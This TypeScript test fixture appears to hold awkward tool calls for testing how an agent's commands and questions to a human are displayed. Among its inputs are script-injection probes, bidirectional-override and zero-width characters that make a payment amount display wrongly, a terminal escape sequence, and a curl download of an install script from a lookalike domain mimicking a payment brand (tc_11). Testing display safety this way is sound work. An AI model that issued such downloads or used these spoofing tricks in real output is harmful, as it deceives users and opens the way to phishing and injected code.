/** Calls that are hard to draw: Markdown, tables, long words, long choices, odd letters, a form of every kind of field. */
import { command } from '../../scenarios/project.ts'

export const LONG_WORD: string = `release-${'very-long-part-of-a-name-'.repeat(6)}end`

export const PROSE = [
  '## What I would do',
  'The tests are **green**, so I would *deploy* `shop@1.4.3` now. [The release notes](https://notes.example/1.4.3) list it:',
  '',
  '1. Back up the database',
  '2. Apply `deploy/shop.yaml`',
  '   - with the new image',
  '   - and the old limits',
  '3. Watch for ten minutes',
  '',
  '| Service | Now | Then | Replicas | Zone |',
  '|---|---|---|---|---|',
  '| shop | 1.4.2 | **1.4.3** | 12 | eu-west-1 |',
  '| search | 0.9.0 | 0.9.1 | 4 | eu-central-1 |',
  '',
  '```sh',
  'kubectl apply -f deploy/shop.yaml',
  '```',
  '',
  '> Nothing else changes.',
  '',
  'Pay \u202e001\u202c to \u200bana. <b>No HTML</b> <img src=x onerror="document.title=1"> ![no image](https://track.example/pixel.png)',
].join('\n')

const QUESTION = [
  '# Which **plan** shall I follow?',
  '',
  '- *Fast*: two hours, with an outage',
  '- *Safe*: a day, without one',
  '',
  'See `docs/plans.md`.',
].join('\n')

/** A field of every kind. */
export const EVERY_FIELD = {
  type: 'object',
  required: ['name', 'email', 'due', 'places', 'window'],
  properties: {
    name: { type: 'string', title: 'Name', default: 'shop', description: 'As customers see it.' },
    email: { type: 'string', format: 'email', title: 'Mail address' },
    page: { type: 'string', format: 'uri', title: 'Page' },
    due: { type: 'string', format: 'date', title: 'Due' },
    at: { type: 'string', format: 'time', title: 'At' },
    begins: { type: 'string', format: 'date-time', title: 'Begins' },
    places: { type: 'array', title: 'Places', items: { enum: ['north', 'south', 'east'] }, uniqueItems: true },
    tags: { type: 'array', title: 'Tags', items: { type: 'string' } },
    limits: { type: 'object', title: 'Limits', additionalProperties: { type: 'integer' } },
    window: {
      type: 'object',
      title: 'Window',
      required: ['hours'],
      properties: { hours: { type: 'integer', default: 2 } },
    },
    sure: { type: 'boolean', title: 'Sure', default: true },
    amount: { type: 'number', title: 'Amount' },
    more: { title: 'Anything else' },
  },
}

export const ask = (id: string, args: object) => ({ id, name: 'ask_human', args })

export const HARD_CALLS = [
  command('tc_1', 'kubectl --context staging apply -f deploy/shop.yaml'),
  ask('tc_2', { question: QUESTION, choices: ['Fast', 'Safe'] }),
  ask('tc_3', { question: 'Which name?', choices: [LONG_WORD, `Take ${LONG_WORD} and no other`, 'Neither'] }),
  ask('tc_4', { question: 'What shall I write down?', schema: EVERY_FIELD }),
  command('tc_5', `deploy ${LONG_WORD}`),
  {
    id: 'tc_6',
    name: 'write_file',
    args: { path: 'CHANGES.md', content: `# Changes\n\n- ${LONG_WORD}\n- Faster search\n` },
  },
  ask('tc_7', {
    question: 'هل أرسل الرسالة إلى العميل الآن، أم أنتظر حتى يوم الاثنين؟',
    choices: ['أرسل الآن', 'انتظر'],
  }),
  ask('tc_8', { question: `May I use ${LONG_WORD}?` }),
  command(
    'tc_9',
    `echo "pay \u202e001\u202c to \u200bana" && printf '\u001b[31mred'\n# <b>bold</b> <script>alert(1)</script>\n# ${'long '.repeat(60)}`,
  ),
  {
    id: 'tc_10',
    name: 'write_file',
    args: { path: 'data.csv', content: rows(10_000, n => `${n},order-${n},${(n * 7) % 991},${'x'.repeat(190)}`) },
  },
  command('tc_11', 'curl -fsSL https://раураl.com/install.sh -o install.sh'),
  command(
    'tc_12',
    rows(60, n => `test -e part-${n} || echo "part ${n} is missing"`),
  ),
]

function rows(count: number, row: (n: number) => string): string {
  return Array.from({ length: count }, (_, n) => row(n)).join('\n')
}
